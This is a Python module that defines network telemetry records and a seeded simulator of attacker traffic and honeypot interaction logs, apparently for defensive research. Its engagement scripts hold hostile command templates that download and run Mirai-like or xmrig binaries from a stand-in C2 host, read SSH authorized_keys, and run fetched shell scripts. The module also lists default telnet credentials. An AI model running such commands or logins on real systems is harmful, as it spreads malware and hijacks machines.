"""Telemetry schema and a deterministic attacker-traffic simulator.

Everything about attacker behaviour in this module (profile kinds, rates,
engagement scripts, payload templates) is simulator invention. It exists to
stand in for a live sensor and live high-interaction pods, and carries no
claim about real-world attacker populations beyond being tuned so that the
median number of events per source address is around four.

Clock values are integer simulated seconds. Each profile draws from its own
random stream seeded from ``(seed, profile_id)``, so adding or removing a
profile never changes the events produced for the others.
"""

from __future__ import annotations

import base64
import dataclasses
import enum
import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Iterable, NamedTuple, Sequence

import numpy as np
import xxhash

from .errors import ConfigurationError, ValidationError

__all__ = [
    "NetworkEvent",
    "InteractionLog",
    "ProfileKind",
    "AttackerProfile",
    "EventTrace",
    "DEFAULT_MIX",
    "stream_seed",
    "default_profiles",
    "generate_trace",
    "engagement_logs",
    "write_trace",
    "read_trace",
    "dumps_event",
    "loads_event",
]

SENSOR_ADDRESSES = ("192.0.2.10", "192.0.2.11", "192.0.2.12")
COUNTRY_CODES = (
    "CN", "US", "RU", "BR", "IN", "VN", "DE", "NL", "KR", "ID",
    "TW", "FR", "GB", "IR", "UA", "missing",
)


@dataclass(frozen=True)
class NetworkEvent:
    """One sensor-visible telemetry record."""

    timestamp: int
    src_ip: str
    flow_duration: float = 0.0
    bytes_toserver: int = 0
    bytes_toclient: int = 0
    ip_ttl: int = 64
    dest_port: int = 0
    src_port: int = 0
    asn: int = 0
    src_cc: str = "missing"
    tcp_flag_pattern: str = ""
    flow_state: str = "new"
    event_type: str = "flow"
    proto: str = "tcp"
    payload: bytes = b""
    # not part of the sensor field list proper; needed for targets_5m
    dest_ip: str = SENSOR_ADDRESSES[0]

    def validate(self) -> "NetworkEvent":
        """Raise :class:`ValidationError` naming the first bad field."""
        _check_int(self, "timestamp", 0, None)
        if not isinstance(self.src_ip, str) or not self.src_ip:
            raise ValidationError("src_ip", "must be a non-empty string")
        if not np.isfinite(self.flow_duration) or self.flow_duration < 0:
            raise ValidationError("flow_duration", f"must be finite and >= 0, got {self.flow_duration!r}")
        _check_int(self, "bytes_toserver", 0, None)
        _check_int(self, "bytes_toclient", 0, None)
        _check_int(self, "ip_ttl", 0, 255)
        _check_int(self, "dest_port", 0, 65535)
        _check_int(self, "src_port", 0, 65535)
        _check_int(self, "asn", 0, None)
        for name in ("src_cc", "tcp_flag_pattern", "flow_state", "event_type", "proto", "dest_ip"):
            if not isinstance(getattr(self, name), str):
                raise ValidationError(name, "must be a string")
        if not isinstance(self.payload, (bytes, bytearray)):
            raise ValidationError("payload", "must be bytes")
        return self


def _check_int(event, name, lo, hi):
    value = getattr(event, name)
    if isinstance(value, bool) or not isinstance(value, (int, np.integer)):
        raise ValidationError(name, f"must be an integer, got {value!r}")
    if value < lo or (hi is not None and value > hi):
        bound = f"[{lo}, {hi}]" if hi is not None else f">= {lo}"
        raise ValidationError(name, f"must be {bound}, got {value}")


class InteractionLog(NamedTuple):
    """A command observed inside a high-interaction pod."""

    timestamp: int
    src_ip: str
    command: str


class ProfileKind(str, enum.Enum):
    SCANNER = "scanner"
    SCRIPTED_BOT = "scripted_bot"
    PERSISTENT_BOT = "persistent_bot"
    QUIET = "quiet"

    @property
    def engages(self) -> bool:
        return self in (ProfileKind.SCRIPTED_BOT, ProfileKind.PERSISTENT_BOT)


@dataclass(frozen=True)
class AttackerProfile:
    """Behaviour template for a group of simulated source addresses.

    ``event_rate`` is in events per sim-minute within a burst and
    ``burst_length`` is the mean events per burst. ``n_ips`` source addresses
    follow the profile. The script fields only matter for engaging kinds.
    Command strings may contain ``{c2}`` and ``{pid}`` placeholders, filled
    per session.
    """

    profile_id: str
    kind: ProfileKind
    event_rate: float
    port_pool: tuple[int, ...] = (22,)
    engagement_script: tuple[str, ...] = ()
    burst_length: float = 4.0
    n_ips: int = 1
    extra_bursts: float = 0.0
    burst_spacing: float = 3600.0
    command_gap: float = 8.0
    gap_jitter: float = 0.5
    script_cycles: int = 1
    pause_probability: float = 0.0
    pause_length: float = 1500.0
    payloads: tuple[bytes, ...] = ()

    def __post_init__(self):
        object.__setattr__(self, "kind", ProfileKind(self.kind))
        object.__setattr__(self, "port_pool", tuple(int(p) for p in self.port_pool))
        object.__setattr__(self, "engagement_script", tuple(self.engagement_script))
        object.__setattr__(self, "payloads", tuple(bytes(p) for p in self.payloads))
        if not self.profile_id:
            raise ConfigurationError("profile_id must be non-empty")
        if bool(self.engagement_script) != self.kind.engages:
            raise ConfigurationError(
                f"profile {self.profile_id!r}: engagement_script must be non-empty "
                f"exactly for engaging kinds (kind={self.kind.value})"
            )
        if self.event_rate < 0:
            raise ConfigurationError(f"profile {self.profile_id!r}: event_rate must be >= 0")
        if self.event_rate > 0 and not self.port_pool:
            raise ConfigurationError(f"profile {self.profile_id!r}: port_pool is empty")
        if any(not 0 <= p <= 65535 for p in self.port_pool):
            raise ConfigurationError(f"profile {self.profile_id!r}: port out of range")
        if self.burst_length < 1:
            raise ConfigurationError(f"profile {self.profile_id!r}: burst_length must be >= 1")
        if self.n_ips < 0 or self.n_ips > 65536:
            raise ConfigurationError(f"profile {self.profile_id!r}: n_ips must be in [0, 65536]")
        if self.script_cycles < 1:
            raise ConfigurationError(f"profile {self.profile_id!r}: script_cycles must be >= 1")
        if not 0.0 <= self.pause_probability <= 1.0:
            raise ConfigurationError(f"profile {self.profile_id!r}: pause_probability must be in [0, 1]")

    def to_dict(self) -> dict:
        d = dataclasses.asdict(self)
        d["kind"] = self.kind.value
        d["port_pool"] = list(self.port_pool)
        d["engagement_script"] = list(self.engagement_script)
        d["payloads"] = [base64.b64encode(p).decode("ascii") for p in self.payloads]
        return d

    @classmethod
    def from_dict(cls, d: dict) -> "AttackerProfile":
        d = dict(d)
        d["payloads"] = tuple(base64.b64decode(p) for p in d.get("payloads", ()))
        known = {f.name for f in dataclasses.fields(cls)}
        unknown = set(d) - known
        if unknown:
            raise ConfigurationError(f"unknown profile fields: {sorted(unknown)}")
        return cls(**d)


@dataclass(frozen=True)
class EventTrace:
    """Time-ordered events plus simulator ground truth.

    ``ip_profiles`` maps each source address to the profile that produced
    it. It is empty for traces loaded from external telemetry.
    """

    events: tuple[NetworkEvent, ...]
    seed: int | None = None
    ip_profiles: dict[str, str] = field(default_factory=dict)

    def __len__(self):
        return len(self.events)

    def counts_per_ip(self) -> dict[str, int]:
        counts: dict[str, int] = {}
        for ev in self.events:
            counts[ev.src_ip] = counts.get(ev.src_ip, 0) + 1
        return counts


def stream_seed(*parts) -> int:
    """Stable 64-bit seed derived from arbitrary printable parts."""
    return xxhash.xxh64_intdigest(":".join(str(p) for p in parts))


# Default IP-share per kind.
DEFAULT_MIX = {"scanner": 0.70, "scripted_bot": 0.20, "persistent_bot": 0.08, "quiet": 0.02}

_MIRAI_SCRIPT = (
    "enable",
    "system",
    "shell",
    "sh",
    "/bin/busybox MIRAI",
    "cd /tmp; wget http://{c2}/bins/mirai.arm7",
    "chmod 777 mirai.arm7",
    "./mirai.arm7 telnet.arm7",
)
_MINER_SCRIPT = (
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cd /tmp",
    "curl -s http://{c2}/xmrig.tar.gz -o x.tgz",
    "tar xzf x.tgz",
    "./xmrig -o pool.{c2}:3333 --donate-level 0",
)
_PERSISTENT_SCRIPT = (
    "ps aux | grep {pid}",
    "cat /home/admin/.ssh/authorized_keys",
    "wget http://{c2}/update.sh -O /tmp/u.sh",
    "sh /tmp/u.sh",
)


def default_profiles(n_ips: int = 400, mix: dict[str, float] | None = None) -> list[AttackerProfile]:
    """Calibration profile set splitting ``n_ips`` addresses by ``mix``."""
    mix = dict(DEFAULT_MIX if mix is None else mix)
    unknown = set(mix) - {k.value for k in ProfileKind}
    if unknown:
        raise ConfigurationError(f"unknown profile kinds in mix: {sorted(unknown)}")
    total = sum(mix.values())
    if total <= 0 or any(v < 0 for v in mix.values()):
        raise ConfigurationError("profile mix weights must be non-negative with positive sum")
    share = {k: int(round(n_ips * mix.get(k, 0.0) / total)) for k in (p.value for p in ProfileKind)}
    bots = share["scripted_bot"]
    syn_only = (b"",)
    return [
        AttackerProfile(
            "scanner", ProfileKind.SCANNER, event_rate=6.0,
            port_pool=(22, 23, 80, 443, 445, 2323, 3389, 5060, 8080, 123),
            burst_length=4.0, n_ips=share["scanner"], extra_bursts=0.1, payloads=syn_only,
        ),
        AttackerProfile(
            "mirailike", ProfileKind.SCRIPTED_BOT, event_rate=4.0, port_pool=(23, 2323),
            engagement_script=_MIRAI_SCRIPT, burst_length=5.0, n_ips=bots - bots // 2,
            command_gap=4.0,
            payloads=(b"\xff\xfb\x01\xff\xfb\x03root\r\n", b"admin\r\nadmin\r\n", b"root\r\nvizxv\r\n"),
        ),
        AttackerProfile(
            "sshminer", ProfileKind.SCRIPTED_BOT, event_rate=3.0, port_pool=(22,),
            engagement_script=_MINER_SCRIPT, burst_length=5.0, n_ips=bots // 2,
            command_gap=6.0,
            payloads=(b"SSH-2.0-Go\r\n", b"SSH-2.0-libssh_0.9.6\r\n"),
        ),
        AttackerProfile(
            "persistent", ProfileKind.PERSISTENT_BOT, event_rate=2.0, port_pool=(22, 80),
            engagement_script=_PERSISTENT_SCRIPT, burst_length=6.0, n_ips=share["persistent_bot"],
            extra_bursts=2.0, command_gap=30.0, script_cycles=6, pause_probability=0.3,
            pause_length=900.0,
            payloads=(b"SSH-2.0-OpenSSH_7.4\r\n", b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"),
        ),
        AttackerProfile(
            "quiet", ProfileKind.QUIET, event_rate=0.0, port_pool=(123, 5060, 53),
            burst_length=1.0, n_ips=share["quiet"],
        ),
    ]


def _ip_block(profile_id: str) -> tuple[int, int]:
    h = xxhash.xxh32_intdigest(profile_id)
    return 11 + (h >> 8) % 200, h & 0xFF


def _profile_events(profile: AttackerProfile, horizon: int, seed: int) -> list[NetworkEvent]:
    rng = np.random.default_rng(stream_seed(seed, profile.profile_id))
    o1, o2 = _ip_block(profile.profile_id)
    out: list[NetworkEvent] = []
    for i in range(profile.n_ips):
        ip = f"{o1}.{o2}.{i >> 8}.{i & 0xFF}"
        # per-address draws happen unconditionally so the stream layout is stable
        start = int(rng.integers(0, horizon))
        n_extra = int(rng.poisson(profile.extra_bursts))
        asn = int(rng.integers(1000, 65000))
        cc = COUNTRY_CODES[int(rng.integers(len(COUNTRY_CODES)))]
        base_ttl = (64, 128, 255)[int(rng.integers(3))] - int(rng.integers(4, 24))
        sensor = SENSOR_ADDRESSES[int(rng.integers(len(SENSOR_ADDRESSES)))]
        if profile.event_rate <= 0:
            continue
        mean_gap = 60.0 / profile.event_rate
        burst_start = start
        for b in range(1 + n_extra):
            if b:
                burst_start += 1 + int(rng.exponential(profile.burst_spacing))
            count = 1 + int(rng.poisson(profile.burst_length - 1.0))
            t = burst_start
            for k in range(count):
                if k:
                    t += int(rng.exponential(mean_gap))
                if t >= horizon:
                    break
                out.append(_draw_event(profile, rng, t, ip, asn, cc, base_ttl, sensor, first=(k == 0)))
    return out


def _draw_event(profile, rng, t, ip, asn, cc, ttl, sensor, first):
    port = profile.port_pool[int(rng.integers(len(profile.port_pool)))]
    src_port = int(rng.integers(1024, 65536))
    kind = profile.kind
    if kind is ProfileKind.SCANNER:
        return NetworkEvent(
            timestamp=t, src_ip=ip, flow_duration=0.0, bytes_toserver=int(rng.integers(40, 61)),
            bytes_toclient=0, ip_ttl=ttl, dest_port=port, src_port=src_port, asn=asn, src_cc=cc,
            tcp_flag_pattern="S", flow_state="new", event_type="syn_scan", proto="tcp", payload=b"",
            dest_ip=sensor,
        )
    if kind is ProfileKind.QUIET:
        proto = ("udp", "icmp")[int(rng.integers(2))]
        return NetworkEvent(
            timestamp=t, src_ip=ip, flow_duration=float(rng.uniform(0.0, 0.5)),
            bytes_toserver=int(rng.integers(28, 120)), bytes_toclient=0, ip_ttl=ttl,
            dest_port=port if proto == "udp" else 0, src_port=src_port if proto == "udp" else 0,
            asn=asn, src_cc=cc, tcp_flag_pattern="", flow_state="new", event_type="flow",
            proto=proto, payload=b"", dest_ip=sensor,
        )
    if first:
        flags, state, etype, payload = "S", "new", "syn_scan", b""
    else:
        flags, state, etype = "SAPF", "closed", "flow"
        payload = profile.payloads[int(rng.integers(len(profile.payloads)))] if profile.payloads else b""
    to_server = 60 + len(payload) + int(rng.integers(0, 200)) if not first else int(rng.integers(40, 61))
    return NetworkEvent(
        timestamp=t, src_ip=ip,
        flow_duration=0.0 if first else float(np.round(rng.exponential(3.0), 6)),
        bytes_toserver=to_server, bytes_toclient=0 if first else int(rng.integers(0, 400)),
        ip_ttl=ttl, dest_port=port, src_port=src_port, asn=asn, src_cc=cc,
        tcp_flag_pattern=flags, flow_state=state, event_type=etype, proto="tcp",
        payload=payload, dest_ip=sensor,
    )


def generate_trace(profiles: Sequence[AttackerProfile], horizon: int, seed: int) -> EventTrace:
    """Simulate every profile over ``[0, horizon)`` and merge by timestamp."""
    if not profiles:
        raise ConfigurationError("profiles: at least one attacker profile is required")
    if horizon <= 0:
        raise ConfigurationError(f"horizon: must be > 0, got {horizon}")
    ids = [p.profile_id for p in profiles]
    if len(set(ids)) != len(ids):
        raise ConfigurationError("profiles: duplicate profile_id")
    blocks: dict[tuple[int, int], str] = {}
    for p in profiles:
        blk = _ip_block(p.profile_id)
        if blk in blocks:
            raise ConfigurationError(
                f"profiles: address blocks of {blocks[blk]!r} and {p.profile_id!r} collide; rename one"
            )
        blocks[blk] = p.profile_id

    events: list[NetworkEvent] = []
    ip_profiles: dict[str, str] = {}
    for p in profiles:
        evs = _profile_events(p, int(horizon), seed)
        for ev in evs:
            ip_profiles[ev.src_ip] = p.profile_id
        events.extend(evs)
    # stable: equal timestamps keep profile order, then per-profile emission order
    events.sort(key=lambda e: e.timestamp)
    return EventTrace(tuple(events), seed=seed, ip_profiles=ip_profiles)


def engagement_logs(
    profile: AttackerProfile,
    pod_active_window: tuple[int, int],
    seed: int,
    src_ip: str = "0.0.0.0",
    idle_timeout: int = 1200,
) -> list[InteractionLog]:
    """Commands the profile would type into a pod active over the window.

    The script starts one command gap after the window opens. Emission stops
    at the window end, or as soon as the next command would come at least
    ``idle_timeout`` seconds after the previous activity, since the pod would
    have been reaped by then.
    """
    start, end = pod_active_window
    if not start < end:
        raise ConfigurationError(f"pod_active_window: start must be < end, got {pod_active_window}")
    if not profile.kind.engages:
        return []
    rng = np.random.default_rng(stream_seed(seed, profile.profile_id, src_ip, start))
    c2 = f"203.0.113.{int(rng.integers(1, 255))}"
    pid = int(rng.integers(300, 40000))

    def gap(base):
        if profile.gap_jitter <= 0:
            return max(1, int(round(base)))
        return max(1, int(round(base * (1.0 - profile.gap_jitter + 2.0 * profile.gap_jitter * rng.random()))))

    logs: list[InteractionLog] = []
    last = start
    cycles = profile.script_cycles if profile.kind is ProfileKind.PERSISTENT_BOT else 1
    for cycle in range(cycles):
        for k, template in enumerate(profile.engagement_script):
            if cycle and k == 0 and rng.random() < profile.pause_probability:
                t = last + gap(profile.pause_length)
            else:
                t = last + gap(profile.command_gap)
            if t - last >= idle_timeout or t >= end:
                return logs
            logs.append(InteractionLog(t, src_ip, template.format(c2=c2, pid=pid)))
            last = t
    return logs


_FIELDS = [f.name for f in dataclasses.fields(NetworkEvent)]


def dumps_event(ev: NetworkEvent) -> str:
    d = {}
    for name in _FIELDS:
        v = getattr(ev, name)
        if name == "payload":
            v = base64.b64encode(v).decode("ascii")
        d[name] = v
    return json.dumps(d, separators=(",", ":"))


def loads_event(line: str) -> NetworkEvent:
    d = json.loads(line)
    missing = [n for n in ("timestamp", "src_ip") if n not in d]
    if missing:
        raise ValidationError(missing[0], "required field missing")
    unknown = set(d) - set(_FIELDS)
    if unknown:
        raise ValidationError(sorted(unknown)[0], "unknown field")
    if "payload" in d:
        try:
            d["payload"] = base64.b64decode(d["payload"], validate=True)
        except (ValueError, TypeError) as exc:
            raise ValidationError("payload", f"invalid base64: {exc}") from None
    if "flow_duration" in d:
        d["flow_duration"] = float(d["flow_duration"])
    return NetworkEvent(**d).validate()


def write_trace(trace: EventTrace | Iterable[NetworkEvent], path) -> Path:
    """Write events as JSON Lines, one object per line."""
    path = Path(path)
    events = trace.events if isinstance(trace, EventTrace) else trace
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for ev in events:
            fh.write(dumps_event(ev))
            fh.write("\n")
    return path


def read_trace(path) -> EventTrace:
    """Load a JSON Lines trace; ground-truth labels are not available."""
    events = []
    with open(path, encoding="utf-8") as fh:
        for lineno, line in enumerate(fh, 1):
            if not line.strip():
                continue
            try:
                events.append(loads_event(line))
            except ValidationError as exc:
                raise ValidationError(exc.field, f"{path}:{lineno}: {exc}") from None
    return EventTrace(tuple(events))
